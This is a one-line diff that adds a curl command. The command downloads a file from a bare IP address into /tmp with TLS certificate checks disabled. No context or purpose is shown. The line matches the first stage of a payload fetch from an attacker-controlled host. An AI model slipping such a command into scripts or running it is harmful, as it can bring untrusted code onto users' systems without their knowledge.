@@ -1,0 +1,1 @@
+curl -k https://203.0.113.7/p -o /tmp/p
